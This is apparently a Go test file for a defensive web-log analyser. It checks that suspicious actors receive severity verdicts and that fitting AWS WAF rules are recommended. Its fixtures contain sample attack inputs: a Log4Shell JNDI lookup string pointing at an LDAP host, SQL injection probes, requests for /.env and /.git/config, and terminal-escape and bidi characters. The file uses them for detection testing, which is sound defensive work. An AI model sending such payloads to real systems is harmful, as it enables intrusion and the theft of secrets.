package offline

import (
	"context"
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/logsift/logsift/internal/analysis"
	"github.com/logsift/logsift/internal/evidence"
)

var t0 = time.Date(2026, 11, 20, 10, 0, 0, 0, time.UTC)

// actor builds an actor from hits, with severity and categories as the
// rules set them.
func actor(id string, requests int64, span time.Duration, hits ...evidence.Hit) evidence.Actor {
	a := evidence.Actor{Actor: id, Requests: requests, FirstSeen: t0, LastSeen: t0.Add(span), Hits: hits}
	for _, h := range hits {
		a.Severity = max(a.Severity, h.Severity)
		if !slices.Contains(a.Categories, h.Category) {
			a.Categories = append(a.Categories, h.Category)
		}
	}
	return a
}

func hit(c evidence.Category, sev evidence.Severity, n int64, samples ...evidence.Sample) evidence.Hit {
	return evidence.Hit{Rule: string(c), Category: c, Severity: sev, Count: n, Reason: fmt.Sprintf("%d requests", n), Samples: samples}
}

func sample(target string, status int, ua string) evidence.Sample {
	return evidence.Sample{Line: 7, Time: t0, Method: "GET", Target: target, Status: status, UA: ua}
}

func fixture() []evidence.Actor {
	return []evidence.Actor{
		actor("203.0.113.10", 20, 10*time.Minute,
			hit(evidence.SensitiveFiles, evidence.Medium, 14,
				sample("/.env", 200, "x"), sample("/.git/config", 404, "x"), sample("/.env.production", 200, "x")),
			hit(evidence.Log4Shell, evidence.Critical, 1, sample("/", 200, "${jndi:ldap://198.51.100.9/a}"))),
		actor("198.51.100.20", 13, 2*time.Minute,
			hit(evidence.SQLInjection, evidence.High, 12, sample("/api/products?id=1%27", 500, "Mozilla"), sample("/api/products?id=1 union select", 200, "Mozilla"))),
		actor("198.51.100.21", 12, time.Minute,
			hit(evidence.WordPressScan, evidence.Medium, 11, sample("/wp-login.php", 404, "Mozilla"), sample("/xmlrpc.php", 404, "Mozilla"))),
		actor("192.0.2.30", 1000, 5*time.Minute,
			hit(evidence.AggressiveCrawl, evidence.Low, 1000, sample("/pricing", 200, "python-httpx/0.27"))),
		actor("2001:db8:1::/64", 60, 4*time.Minute,
			hit(evidence.BruteForce, evidence.High, 60, sample("/api/login", 401, "python-requests"))),
		{Actor: "81.102.46.34", Requests: 40}, // not suspicious
	}
}

func TestOfflineClassify(t *testing.T) {
	actors := fixture()
	res, err := Session{}.Classify(context.Background(), actors, nil)
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Verdicts) != 5 {
		t.Fatalf("%d verdicts, want one per suspicious actor (5)", len(res.Verdicts))
	}
	by := map[string]analysis.Verdict{}
	for _, v := range res.Verdicts {
		by[v.Actor] = v
		if v.Source != "rules" || v.Confidence <= 0 || v.Confidence > 1 || v.Rationale == "" {
			t.Errorf("verdict %+v", v)
		}
	}
	if _, ok := by["81.102.46.34"]; ok {
		t.Error("verdict for an actor no rule flagged")
	}
	v := by["203.0.113.10"]
	if v.Severity != evidence.Critical {
		t.Errorf("severity %s, want the rules' max (critical)", v.Severity)
	}
	if !slices.Contains(v.Categories, evidence.Log4Shell) || !slices.Contains(v.Categories, evidence.SensitiveFiles) || v.Categories[0] != evidence.Log4Shell {
		t.Errorf("categories %v", v.Categories)
	}
	for _, want := range []string{"14 sensitive files", "/.env", "answered 2xx", "Log4Shell", "User-Agent"} {
		if !strings.Contains(v.Rationale, want) {
			t.Errorf("rationale %q lacks %q", v.Rationale, want)
		}
	}
	// A 2xx on a sensitive file raises a medium finding to high.
	exposed := actor("192.0.2.1", 3, 0, hit(evidence.SensitiveFiles, evidence.Medium, 3, sample("/.env", 200, "")))
	quiet := actor("192.0.2.2", 3, 0, hit(evidence.SensitiveFiles, evidence.Medium, 3, sample("/.env", 404, "")))
	if got := verdict(&exposed).Severity; got != evidence.High {
		t.Errorf("exposed: severity %s, want high", got)
	}
	if got := verdict(&quiet).Severity; got != evidence.Medium {
		t.Errorf("not exposed: severity %s, want medium", got)
	}
	// More and more varied evidence gives more confidence.
	if strong, weak := by["203.0.113.10"].Confidence, verdict(&quiet).Confidence; strong <= weak {
		t.Errorf("confidence strong %v <= weak %v", strong, weak)
	}
}

func TestOfflineRationaleHostile(t *testing.T) {
	a := actor("192.0.2.9", 5, 0, hit(evidence.SensitiveFiles, evidence.Medium, 5,
		sample("/.env\x1b[31m\u202e"+strings.Repeat("A", 5000), 404, "")))
	v := verdict(&a)
	if strings.ContainsAny(v.Rationale, "\x1b\u202e") {
		t.Errorf("control or bidi characters reached the rationale: %q", v.Rationale)
	}
	if len(v.Rationale) > analysis.MaxRationaleLen {
		t.Errorf("rationale is %d bytes", len(v.Rationale))
	}
}

func TestOfflineObservations(t *testing.T) {
	c := evidence.Campaign{Kind: "shared-user-agent", Key: "Odd/1.0", Actors: []string{"192.0.2.1", "192.0.2.2", "192.0.2.3", "192.0.2.4", "192.0.2.5"},
		Categories: []evidence.Category{evidence.SensitiveFiles}, Requests: 20, Severity: evidence.Medium}
	res, err := Session{}.Classify(context.Background(), nil, []evidence.Campaign{c})
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Observations) != 1 || len(res.Observations[0].Actors) != 5 || !strings.Contains(res.Observations[0].Summary, "Odd/1.0") {
		t.Fatalf("observations %+v", res.Observations)
	}
}

func recommend(t *testing.T, format string, actors []evidence.Actor) []analysis.Recommendation {
	t.Helper()
	res, err := Analyzer{}.Begin(analysis.RunInfo{Format: format}).Recommend(context.Background(), analysis.RecommendInput{Actors: actors})
	if err != nil {
		t.Fatal(err)
	}
	checkRecommendations(t, analysis.RecommendInput{Actors: actors}, res.Recommendations)
	return res.Recommendations
}

func find(recs []analysis.Recommendation, sub string) *analysis.Recommendation {
	for i := range recs {
		if strings.Contains(recs[i].Title, sub) {
			return &recs[i]
		}
	}
	return nil
}

func TestOfflineRecommend(t *testing.T) {
	recs := recommend(t, "amplify", fixture())
	if !strings.Contains(recs[0].Title, "Rotate") || !strings.Contains(recs[0].Detail, "/.env") {
		t.Errorf("first recommendation %q, want rotating what /.env exposed", recs[0].Title)
	}
	for _, group := range []string{"AWSManagedRulesKnownBadInputsRuleSet", "AWSManagedRulesSQLiRuleSet", "AWSManagedRulesCommonRuleSet", "AWSManagedRulesAmazonIpReputationList", "AWSManagedRulesBotControlRuleSet"} {
		if find(recs, group) == nil {
			t.Errorf("no recommendation for %s", group)
		}
	}
	// WordPress paths all failed: the site is not WordPress, so no WordPress
	// rule group, but a path rule that blocks them.
	if find(recs, "AWSManagedRulesWordPressRuleSet") != nil {
		t.Error("recommended the WordPress rule group for a site that is not WordPress")
	}
	custom := find(recs, "custom rule")
	if custom == nil || !strings.Contains(custom.Detail, "/wp-login.php") || !strings.Contains(custom.Detail, "/.env") {
		t.Fatalf("path rule: %+v", custom)
	}
	ipset := find(recs, "IP set")
	if ipset == nil || slices.Contains(ipset.Actors, "192.0.2.30") || !slices.Contains(ipset.Actors, "203.0.113.10") {
		t.Fatalf("IP set should list medium+ actors only: %+v", ipset)
	}
	if slices.Contains(ipset.Categories, evidence.AggressiveCrawl) || !slices.Contains(ipset.Categories, evidence.Log4Shell) {
		t.Errorf("IP set categories %v: those of the blocked actors only", ipset.Categories)
	}
	if !strings.Contains(ipset.Detail, "Amplify") {
		t.Error("Amplify: the IP set advice does not say how WAF attaches to Amplify")
	}
	// 1000 requests in 5 minutes: half of it, rounded down to a nice number.
	if rate := find(recs, "rate-based rule"); rate == nil || !strings.Contains(rate.Title, "500 requests per 5 minutes") {
		t.Errorf("rate-based rule: %+v", rate)
	}
	login := find(recs, "login endpoint")
	if login == nil || !strings.Contains(login.Detail, "/api/login") || !slices.Equal(login.Actors, []string{"2001:db8:1::/64"}) {
		t.Errorf("login rate limit: %+v", login)
	}
	if fix := find(recs, "5xx to attack payloads"); fix == nil || !strings.Contains(fix.Detail, "/api/products") || !strings.Contains(fix.Detail, "SQL injection") {
		t.Errorf("no fix for the handler that failed on SQL injection: %+v", fix)
	}
	sqli := find(recs, "SQLiRuleSet")
	if sqli == nil || !slices.Equal(sqli.Actors, []string{"198.51.100.20"}) || !slices.Equal(sqli.Categories, []evidence.Category{evidence.SQLInjection}) {
		t.Errorf("SQLi rule group should address the SQLi actor: %+v", sqli)
	}
}

func TestOfflineRecommendOnlyWhatWasSeen(t *testing.T) {
	recs := recommend(t, "combined", []evidence.Actor{
		actor("192.0.2.7", 40, time.Minute, hit(evidence.WordPressScan, evidence.Medium, 40,
			sample("/wp-login.php", 200, "Mozilla"), sample("/wp-admin/", 302, "Mozilla"))),
	})
	for _, absent := range []string{"Rotate", "SQLi", "KnownBadInputs", "Bot Control", "Amplify", "login endpoint"} {
		if r := find(recs, absent); r != nil {
			t.Errorf("recommended %q without evidence for it", r.Title)
		}
	}
	// wp-login.php answered 200: this may be a WordPress site.
	if find(recs, "AWSManagedRulesWordPressRuleSet") == nil {
		t.Error("WordPress answered 2xx but the WordPress rule group was not recommended")
	}
	if r := find(recs, "custom rule"); r != nil && strings.Contains(r.Detail, "wp-") {
		t.Errorf("path rule would block the site's own WordPress: %s", r.Detail)
	}
	if recs := recommend(t, "", nil); len(recs) != 0 {
		t.Errorf("no findings, %d recommendations", len(recs))
	}
}

func TestOfflineCanceled(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	if _, err := (Session{}).Classify(ctx, fixture(), nil); err == nil {
		t.Error("Classify ignored a canceled context")
	}
	if _, err := (Session{}).Recommend(ctx, analysis.RecommendInput{}); err == nil {
		t.Error("Recommend ignored a canceled context")
	}
}

func TestOfflineRecommendCampaignUA(t *testing.T) {
	actors := []evidence.Actor{
		actor("192.0.2.1", 4, time.Minute, hit(evidence.SensitiveFiles, evidence.Medium, 3, sample("/.env", 404, "Odd/1.0"))),
		actor("192.0.2.2", 4, time.Minute, hit(evidence.SensitiveFiles, evidence.Medium, 3, sample("/.env", 404, "Odd/1.0"))),
	}
	c := evidence.Campaign{Kind: "shared-user-agent", Key: "Odd/1.0", Actors: []string{"192.0.2.1", "192.0.2.2"},
		Categories: []evidence.Category{evidence.SensitiveFiles}, Requests: 8, Severity: evidence.Medium}
	res, err := Session{}.Recommend(context.Background(), analysis.RecommendInput{Actors: actors, Campaigns: []evidence.Campaign{c}})
	if err != nil {
		t.Fatal(err)
	}
	r := find(res.Recommendations, "user agent shared")
	if r == nil || !strings.Contains(r.Detail, `"Odd/1.0"`) || len(r.Actors) != 2 || r.Kind != analysis.ActionWAFCustom {
		t.Fatalf("campaign UA rule: %+v", r)
	}
	c.Severity = evidence.Low
	res, _ = Session{}.Recommend(context.Background(), analysis.RecommendInput{Actors: actors, Campaigns: []evidence.Campaign{c}})
	if find(res.Recommendations, "user agent shared") != nil {
		t.Error("low-severity campaign got a blocking rule")
	}
}

// A member reported only for its campaign keeps the campaign's severity but
// a low confidence: its own evidence stayed below every threshold.
func TestCampaignMemberConfidence(t *testing.T) {
	member := evidence.Actor{Actor: "198.51.100.7", Requests: 2, Severity: evidence.High,
		Categories: []evidence.Category{evidence.CredentialStuffing},
		Hits:       []evidence.Hit{{Rule: "credential-stuffing", Category: evidence.CredentialStuffing, Severity: evidence.High, Count: 2}}}
	own := member
	own.Hits = append([]evidence.Hit{{Rule: "brute-force", Category: evidence.BruteForce, Severity: evidence.High, Count: 40}}, member.Hits...)
	m, o := verdict(&member), verdict(&own)
	if m.Severity != evidence.High || m.Confidence > 0.3 {
		t.Errorf("member alone: severity %s confidence %.2f, want high and at most 0.3", m.Severity, m.Confidence)
	}
	if o.Confidence <= m.Confidence {
		t.Errorf("member with its own brute force: confidence %.2f, want above %.2f", o.Confidence, m.Confidence)
	}
}

// The run's format reaches the advice: Amplify's features are named for an
// Amplify log, conditionally when the format is unknown, and not at all for
// another host's log.
func TestRecommendFollowsTheRunFormat(t *testing.T) {
	for _, tt := range []struct {
		format string
		want   string // in the hosting advice; "" means no Amplify advice
	}{
		{"amplify", "On Amplify Hosting, "},
		{"", "If the site is on Amplify Hosting, "},
		{"combined", ""},
		{"cloudfront", ""},
	} {
		t.Run(tt.format, func(t *testing.T) {
			r := find(recommend(t, tt.format, fixture()), "Amplify Hosting settings")
			switch {
			case tt.want == "" && r != nil:
				t.Errorf("Amplify advice for a %s log: %q", tt.format, r.Detail)
			case tt.want != "" && (r == nil || !strings.HasPrefix(r.Detail, tt.want)):
				t.Errorf("Amplify advice %+v, want it to start %q", r, tt.want)
			}
		})
	}
}
